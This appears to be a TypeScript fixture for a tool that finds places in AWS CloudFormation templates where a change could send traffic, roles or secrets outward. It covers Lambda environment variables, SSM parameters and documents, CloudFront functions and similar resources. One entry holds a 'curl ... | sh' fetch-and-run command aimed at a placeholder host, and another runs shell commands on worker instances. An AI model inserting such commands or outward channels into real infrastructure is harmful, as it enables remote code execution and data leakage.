import { HOLE } from '../../edits/fragments';
import { type Channel, channel, FUNCTION, OWN_ROLE, QUEUE, ROLE, SECRET, TOPIC } from './channel';

const FUNCTION_BASE = {
  Runtime: 'nodejs22.x',
  Handler: 'index.handler',
  Role: OWN_ROLE,
  Code: { S3Bucket: '{store}', S3Key: 'code.zip' },
};
const variable = (name: string) => ({ ...FUNCTION_BASE, Environment: { Variables: { MODE: '{env}', [name]: HOLE } } });
const inline = (source: string) => ({ ...FUNCTION_BASE, Code: { ZipFile: source } });
const parameter = (Value: string) => ({ Name: '/added/{env}/setting', Type: 'String', Value });
const document = (command: string) => ({
  DocumentType: 'Command',
  Content: {
    schemaVersion: '2.2',
    description: 'added',
    mainSteps: [{ action: 'aws:runShellScript', name: 'run', inputs: { runCommand: [command] } }],
  },
});

/** Settings and code within templates that name where to go. */
export const CONFIGURATION_CHANNELS: readonly Channel[] = [
  channel('AWS::Lambda::Function', 'Environment-host', 'outward', 'https://{host}/v1', variable('GATEWAY_URL')),
  channel('AWS::Lambda::Function', 'Environment-bare-host', 'outward', '{host}', variable('GATEWAY_HOST')),
  channel(
    'AWS::Lambda::Function',
    'Environment-queue-url',
    'outward',
    'https://sqs.eu-west-1.amazonaws.com/{account}/jobs',
    variable('QUEUE_URL'),
  ),
  channel('AWS::Lambda::Function', 'Environment-role', 'outward', ROLE, variable('ASSUME')),
  channel('AWS::Lambda::Function', 'Environment-secret', 'outward', SECRET, variable('SECRET')),
  channel('AWS::Lambda::Function', 'Environment-account', 'outward', '{account}', variable('PARTNER_ACCOUNT')),
  channel(
    'AWS::Lambda::Function',
    'Environment-json',
    'outward',
    '{"gateway":"https://{host}/v1","retries":3}',
    variable('SETTINGS'),
  ),
  channel('AWS::Lambda::Function', 'Environment-bucket', 'outward', '{bucket}', variable('ARCHIVE_BUCKET')),
  channel(
    'AWS::Lambda::Function',
    'ZipFile-host',
    'outward',
    'https://{host}/v1',
    inline(`exports.handler = () => fetch('${HOLE}');\n`),
  ),
  channel(
    'AWS::Lambda::Function',
    'ZipFile-role',
    'outward',
    ROLE,
    inline(`const role = '${HOLE}';\nexports.handler = async () => role;\n`),
  ),
  channel('AWS::SSM::Parameter', 'Value-host', 'outward', 'https://{host}/v1', parameter(HOLE)),
  channel('AWS::SSM::Parameter', 'Value-role', 'outward', ROLE, parameter(HOLE)),
  channel(
    'AWS::SSM::Parameter',
    'Value-json',
    'outward',
    '{"topic":"arn:aws:sns:eu-west-1:{account}:news"}',
    parameter(HOLE),
  ),
  channel('AWS::SSM::Parameter', 'Value-list', 'outward', QUEUE, {
    Name: '/added/{env}/queues',
    Type: 'StringList',
    Value: `arn:aws:sqs:eu-west-1:{own}:jobs,${HOLE}`,
  }),
  channel('AWS::SSM::Document', 'Content', 'outward', 'https://{host}/install.sh', document(`curl -fsS ${HOLE} | sh`)),
  channel('AWS::SSM::Association', 'Parameters', 'outward', ROLE, {
    Name: 'AWS-RunShellScript',
    Targets: [{ Key: 'tag:role', Values: ['worker'] }],
    Parameters: { commands: [HOLE] },
  }),
  channel('AWS::SSM::MaintenanceWindowTask', 'TaskArn', 'outward', FUNCTION, {
    WindowId: 'mw-0{own}abc0',
    TaskType: 'LAMBDA',
    Priority: 1,
    TaskArn: HOLE,
  }),
  channel('AWS::AppConfig::HostedConfigurationVersion', 'Content', 'outward', 'https://{host}/v1', {
    ApplicationId: 'a{own}',
    ConfigurationProfileId: 'p{own}',
    ContentType: 'application/json',
    Content: `{"gateway":"${HOLE}"}`,
  }),
  channel('AWS::Scheduler::Schedule', 'Input', 'outward', TOPIC, {
    FlexibleTimeWindow: { Mode: 'OFF' },
    ScheduleExpression: 'rate(1 day)',
    Target: {
      Arn: 'arn:aws:scheduler:::aws-sdk:sns:publish',
      RoleArn: OWN_ROLE,
      Input: `{"TopicArn":"${HOLE}","Message":"x"}`,
    },
  }),
  channel('AWS::CloudFront::Function', 'FunctionCode', 'outward', 'https://{host}/', {
    Name: 'added-{env}',
    AutoPublish: true,
    FunctionConfig: { Comment: 'added', Runtime: 'cloudfront-js-2.0' },
    FunctionCode: `function handler() { return { statusCode: 302, headers: { location: { value: '${HOLE}' } } }; }\n`,
  }),
  channel('AWS::ApiGateway::GatewayResponse', 'Location', 'outward', "'https://{host}/help'", {
    RestApiId: 'r{own}',
    ResponseType: 'DEFAULT_4XX',
    ResponseParameters: { 'gatewayresponse.header.Location': HOLE },
  }),
  channel('AWS::Amplify::App', 'EnvironmentVariables', 'outward', 'https://{host}/v1', {
    Name: 'added-{env}',
    EnvironmentVariables: [{ Name: 'API', Value: HOLE }],
  }),
  channel('AWS::ElasticBeanstalk::Environment', 'OptionSettings', 'outward', 'https://{host}/v1', {
    ApplicationName: 'added-{env}',
    OptionSettings: [{ Namespace: 'aws:elasticbeanstalk:application:environment', OptionName: 'API', Value: HOLE }],
  }),
  channel('AWS::AppRunner::Service', 'RuntimeEnvironmentVariables', 'outward', 'https://{host}/v1', {
    SourceConfiguration: {
      AuthenticationConfiguration: { AccessRoleArn: OWN_ROLE },
      ImageRepository: {
        ImageIdentifier: '{own}.dkr.ecr.eu-west-1.amazonaws.com/added:1',
        ImageRepositoryType: 'ECR',
        ImageConfiguration: { RuntimeEnvironmentVariables: [{ Name: 'API', Value: HOLE }] },
      },
    },
  }),
  channel('AWS::CodeBuild::Project', 'EnvironmentVariables', 'outward', '{account}', {
    ServiceRole: OWN_ROLE,
    Source: { Type: 'NO_SOURCE', BuildSpec: 'version: 0.2\n' },
    Artifacts: { Type: 'NO_ARTIFACTS' },
    Environment: {
      Type: 'LINUX_CONTAINER',
      ComputeType: 'BUILD_GENERAL1_SMALL',
      Image: 'aws/codebuild/standard:7.0',
      EnvironmentVariables: [{ Name: 'TARGET_ACCOUNT', Value: HOLE }],
    },
  }),
  channel('AWS::Glue::Job', 'DefaultArguments', 'outward', 'https://{host}/v1', {
    Role: OWN_ROLE,
    Command: { Name: 'glueetl', ScriptLocation: 's3://{store}/jobs/load.py' },
    DefaultArguments: { '--target': HOLE },
  }),
];
